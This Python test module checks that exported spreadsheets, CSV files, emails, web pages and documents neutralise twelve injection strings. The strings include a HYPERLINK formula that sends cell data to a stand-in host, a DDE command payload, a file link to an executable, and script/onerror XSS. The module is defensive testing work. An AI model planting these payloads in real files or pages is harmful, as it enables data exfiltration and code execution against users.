"""Twelve texts that a program could take for a formula or a link, and what must not become of them in an output.

Each holds the word EVIL in the place that would act.
"""

import csv
import email
import re
import zipfile
from email import policy
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

from openpyxl import load_workbook

WORD = "EVIL"
TEXTS = (
    '=HYPERLINK("http://EVIL.example.org/?"&A1,"cliquez")',
    "=cmd|' /C calc'!EVIL",
    "+EVIL(A1)",
    "-EVIL(A1)",
    "@EVIL(A1)",
    "\t=EVIL(A1)",
    "＝EVIL(A1)",
    "http://EVIL.example.org/",
    "file:///c:/EVIL.exe",
    '"=EVIL(A1)","<a href="http://EVIL.example.org">x</a>',
    "<script>EVIL()</script><img src=x onerror=EVIL()>",
    "x;=EVIL(A1);y",
)  # fmt: skip

_LINKS_OUT = ("../collected/", "..\\collected\\")
_ACTING = re.compile(r"<(f|formula|formula1|formula2|definedName|cfvo|hyperlink)\b[^>]*?(?:/>|>.*?</\1>)", re.DOTALL)
_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")
_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def check_workbook(path: Path) -> str:
    """Check that nothing of a text acts in a workbook; gives the text of all its cells."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            content = archive.read(name).decode("utf-8", errors="replace")
            if name.endswith(".rels"):
                outside = [
                    each.get("Target") for each in ET.fromstring(content) if each.get("TargetMode") == "External"
                ]
                assert [each for each in outside if WORD in each and not each.startswith(_LINKS_OUT)] == [], name
            if name.startswith("xl/") and "sharedStrings" not in name:
                acting = (found[0] for found in _ACTING.finditer(content) if not found[0].startswith("<hyperlink"))
                assert [text for text in acting if WORD in text] == [], name
    cells = [cell for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" and WORD in str(cell.value)] == []
    return "\n".join(str(cell.value) for cell in cells if cell.value is not None)


def check_table(path: Path) -> str:
    """Check that no field of a CSV file begins as a formula, numbers apart; gives its text.

    Nor does a piece of one: a program whose lists are parted by semicolons breaks fields at them, and at line ends.
    """
    with path.open(encoding="utf-8", newline="") as source:
        fields = [field for row in csv.reader(source) for field in row]
    pieces = [piece for field in fields for piece in re.split("[;\r\n]", field)]
    assert [piece for piece in pieces if piece.startswith(_STARTS[:4]) and not _NUMBER.fullmatch(piece)] == [], path
    assert [field for field in fields if field.startswith(_STARTS) and not _NUMBER.fullmatch(field)] == [], path
    return "\n".join(fields).replace(";'=", ";=")


def check_mail(path: Path) -> str:
    """Check that no text of a partner stands in a draft; gives its text."""
    message = email.message_from_bytes(path.read_bytes(), policy=policy.default)
    assert (message.defects, WORD in str(message.items())) == ([], False)
    assert {part.get_content_type() for part in message.walk() if not part.is_attachment()} <= {
        "text/plain", "multipart/mixed",
    }  # fmt: skip
    text = str(message.get_body().get_content())
    assert WORD not in text
    return text


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, text in attrs:
            acts = name in {"href", "src", "action", "style"} or name.startswith("on")
            if WORD.lower() in name or (acts and WORD in (text or "")):
                self.acting.append(f"{tag} {name}")

    def handle_data(self, data):
        if self.cdata_elem is None:
            self.texts.append(data)
        elif re.search(rf"<[^>]*{WORD}", data):  # in a script, a text may stand as data, but open no tag
            self.acting.append(data)


def check_page(path: Path) -> str:
    """Check that no text becomes a tag, a script or a link of a page; gives its text."""
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    assert page.acting == []
    return "\n".join(page.texts)


def check_document(path: Path) -> str:
    """Check that a text document holds no field and no link made of a text; gives its text."""
    texts = []
    with zipfile.ZipFile(path) as archive:
        for name in (each for each in archive.namelist() if each.endswith((".xml", ".rels"))):
            for element in ET.fromstring(archive.read(name)).iter():
                kind = element.tag.rpartition("}")[2]
                assert not (
                    kind in {"instrText", "fldSimple", "Relationship"} and WORD in ET.tostring(element).decode()
                )
                texts.append(element.text or "" if kind == "t" else "")
    return "".join(texts)


def check_xml(path: Path) -> str:
    """Check that a text opens no element; gives the text of the file."""
    root = ET.parse(path).getroot()
    assert [element.tag for element in root.iter() if WORD in element.tag] == []
    return "\n".join(root.itertext())
